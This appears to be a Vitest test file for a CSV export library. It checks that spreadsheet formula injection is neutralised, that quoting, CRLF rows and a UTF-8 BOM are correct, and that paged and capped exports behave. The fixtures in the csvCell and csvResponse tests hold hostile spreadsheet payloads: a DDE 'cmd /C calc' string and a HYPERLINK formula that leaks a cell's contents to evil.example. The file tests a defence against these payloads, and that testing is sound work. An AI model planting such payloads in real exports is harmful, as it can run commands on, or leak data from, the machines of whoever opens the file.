// CSV exports that open cleanly in a spreadsheet: formula cells neutralised, RFC 4180 quoting,
// CRLF rows, and UTF-8 with a byte order mark so Excel keeps "Núñez" intact.
import { Hono } from "hono";
import { describe, expect, it } from "vitest";
import { cappedCsvResponse, CSV_PAGE_ROWS, csvCell, csvPagedResponse, csvResponse, toCsv, UTF8_BOM, type CsvColumn } from "../../src/lib/csv.ts";

describe("csvCell", () => {
  it("neutralises every character a spreadsheet reads as the start of a formula", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]) {
      const cell = csvCell(`${start}1+1`);
      expect(cell.replace(/^"/, "").startsWith("'"), JSON.stringify(start)).toBe(true);
    }
    expect(csvCell("\r=cmd|' /C calc'!A0")).toBe(`"'\r=cmd|' /C calc'!A0"`);
  });

  it("quotes a hostile HYPERLINK so it reads back as text, quotes doubled", () => {
    expect(csvCell('=HYPERLINK("https://evil.example/?leak="&A1,"Click")')).toBe(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
  });

  it("leaves accented names and formula characters inside the text alone", () => {
    expect(csvCell("Núñez")).toBe("Núñez");
    expect(csvCell("Peña & Hijos = best")).toBe("Peña & Hijos = best");
  });

  it("writes rows with CRLF, a row with a line break quoted", () => {
    expect(toCsv([["a", "two\r\nlines"]])).toBe('a,"two\r\nlines"\r\n');
  });
});

describe("csvResponse", () => {
  type Row = { name: string; note: string };
  const columns: ReadonlyArray<CsvColumn<Row>> = [
    ["name", (r) => r.name],
    ["note", (r) => r.note],
  ];
  const app = new Hono().get("/x.csv", (c) => csvResponse(c, "x.csv", columns, [{ name: "José Núñez", note: '=HYPERLINK("https://evil.example","x")' }]));

  it("answers a UTF-8 download that starts with a byte order mark", async () => {
    const res = await app.request("/x.csv");
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toBe('attachment; filename="x.csv"');
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { fatal: false, ignoreBOM: true }).decode(bytes);
    expect(text).toBe(`${UTF8_BOM}name,note\r\nJosé Núñez,"'=HYPERLINK(""https://evil.example"",""x"")"\r\n`);
  });
});

describe("exports past a page or a cap", () => {
  type Row = { n: number };
  const columns: ReadonlyArray<CsvColumn<Row>> = [["n", (r) => r.n]];
  const rows = Array.from({ length: CSV_PAGE_ROWS * 2 + 5 }, (_, n) => ({ n }));

  it("streams every row, a page at a time, however many pages", async () => {
    const asked: Array<{ limit: number; offset: number }> = [];
    const app = new Hono().get("/all.csv", (c) =>
      csvPagedResponse(c, "all.csv", columns, async (window) => {
        asked.push(window);
        return rows.slice(window.offset, window.offset + window.limit);
      }),
    );
    const text = await (await app.request("/all.csv")).text();
    const lines = text.replace(UTF8_BOM, "").split("\r\n");
    expect(lines[0]).toBe("n");
    expect(lines.length).toBe(rows.length + 2); // header, rows, and the empty string after the last CRLF
    expect(lines.at(-2)).toBe(String(rows.length - 1));
    expect(asked.map((w) => w.offset)).toEqual([0, CSV_PAGE_ROWS, CSV_PAGE_ROWS * 2]);
  });

  it("says so on its last line when a capped export stops, and adds nothing when it does not", async () => {
    const app = new Hono()
      .get("/over.csv", (c) => cappedCsvResponse(c, "over.csv", columns, rows.slice(0, 11), 10))
      .get("/under.csv", (c) => cappedCsvResponse(c, "under.csv", columns, rows.slice(0, 10), 10));
    const over = (await (await app.request("/over.csv")).text()).split("\r\n");
    expect(over).toHaveLength(13);
    expect(over[10]).toBe("9");
    expect(over[11]).toBe("Only the first 10 rows are exported; narrow the filters to export the rest.");
    const under = (await (await app.request("/under.csv")).text()).split("\r\n");
    expect(under).toHaveLength(12);
    expect(under.join("")).not.toContain("Only the first");
  });
});
